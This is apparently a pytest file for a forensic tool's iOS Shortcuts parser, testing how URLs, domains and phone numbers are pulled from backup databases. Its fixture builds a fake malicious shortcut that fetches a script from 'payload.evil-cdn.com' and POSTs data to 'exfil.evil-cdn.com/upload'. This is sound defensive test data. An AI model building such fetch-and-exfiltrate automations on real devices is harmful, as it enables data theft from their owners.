"""shortcuts: Shortcuts.sqlite automations and the URLs in their actions."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from spyglass.acquisitions.ios_backup import IOSBackup
from spyglass.errors import EvidenceError
from spyglass.modules.ios import shortcuts
from spyglass.records import Observable
from spyglass.runner import locate
from tests.builders.ios_artifacts_web import (
    SHORTCUTS_PATH,
    shortcut_actions_blob,
    shortcut_text_token,
    shortcuts_db,
)
from tests.builders.ios_backup import BackupBuilder
from tests.conftest import run_module

CREATED = datetime(2021, 7, 1, 10, 0, tzinfo=UTC)
ACTIONS = shortcut_actions_blob([
    {"identifier": "is.workflow.actions.url",
     "parameters": {"WFURLActionURL": shortcut_text_token("https://payload.evil-cdn.com/p.js")}},
    {"identifier": "is.workflow.actions.downloadurl",
     "parameters": {"WFHTTPMethod": "POST", "WFURL": "exfil.evil-cdn.com/upload"}},
    {"identifier": "is.workflow.actions.sendmessage",
     "parameters": {"WFSendMessageContent": shortcut_text_token("done, call +44 7700 900123"),
                    "WFSendMessageActionRecipients": [{"phoneNumber": "+1 555 0100"}]}},
])
SHORTCUTS = [
    {"id": 1, "name": "Morning", "created": CREATED, "modified": datetime(2021, 7, 3, tzinfo=UTC),
     "description": "URL, Get Contents of URL, Send Message", "actions": ACTIONS, "action_count": 3},
    {"id": 2, "name": "Empty", "created": datetime(2021, 7, 4, tzinfo=UTC), "modified": datetime(2021, 7, 4, tzinfo=UTC),
     "actions": None, "action_count": 0},
]


def _build(tmp_path: Path, data: bytes) -> Path:
    builder = BackupBuilder()
    builder.add_file("HomeDomain", SHORTCUTS_PATH, data)
    return builder.build(tmp_path / "backup")


def test_shortcuts_ios16(tmp_path: Path) -> None:
    records = run_module(_build(tmp_path, shortcuts_db(SHORTCUTS)), shortcuts)
    assert len(records) == 2
    morning, empty = records
    assert morning.timestamp == CREATED
    assert morning.timestamp_desc == "shortcut created"
    assert morning.message == ("Shortcut 'Morning': URL, Get Contents of URL, Send Message - URLs: "
                               "https://payload.evil-cdn.com/p.js, exfil.evil-cdn.com/upload")
    assert morning.fields["modified"] == "2021-07-03T00:00:00Z"
    assert morning.fields["action_count"] == 3
    assert morning.fields["deleted"] is False
    assert morning.fields["actions"] == [
        {"identifier": "is.workflow.actions.url", "urls": ["https://payload.evil-cdn.com/p.js"]},
        {"identifier": "is.workflow.actions.downloadurl", "urls": ["exfil.evil-cdn.com/upload"]},
        {"identifier": "is.workflow.actions.sendmessage", "urls": []},
    ]
    assert morning.observables == (
        Observable("url", "https://payload.evil-cdn.com/p.js"),
        Observable("url", "exfil.evil-cdn.com/upload"),
        Observable("domain", "exfil.evil-cdn.com"),
        Observable("phone", "+15550100"),
        Observable("phone", "+447700900123"),
    )
    assert empty.fields["actions"] == []
    assert empty.message == "Shortcut 'Empty'"


def test_shortcuts_ios13_actions_by_zactions(tmp_path: Path) -> None:
    records = run_module(_build(tmp_path, shortcuts_db(SHORTCUTS, variant="ios13")), shortcuts)
    assert records[0].fields["urls"] == ["https://payload.evil-cdn.com/p.js", "exfil.evil-cdn.com/upload"]
    assert records[0].fields["description"] is None


def test_shortcuts_corrupt_action_blob_keeps_shortcut(tmp_path: Path) -> None:
    data = shortcuts_db([dict(SHORTCUTS[0], actions=b"bplist00\xde\xad\xbe\xef")])
    records = run_module(_build(tmp_path, data), shortcuts)
    assert len(records) == 1
    assert records[0].fields["actions"] == []
    assert records[0].fields["actions_error"]


def test_shortcuts_empty(tmp_path: Path) -> None:
    assert run_module(_build(tmp_path, shortcuts_db([])), shortcuts) == []


def test_shortcuts_corrupt(tmp_path: Path) -> None:
    with pytest.raises(EvidenceError, match=r"Shortcuts\.sqlite: not a SQLite database$"):
        run_module(_build(tmp_path, b"\x00" * 4096), shortcuts)


def test_shortcuts_missing(tmp_path: Path) -> None:
    builder = BackupBuilder()
    builder.add_file("HomeDomain", "Library/Safari/History.db", b"x")
    backup = IOSBackup(builder.build(tmp_path / "backup"))
    assert locate(shortcuts.ARTIFACT, backup) == []
    backup.close()
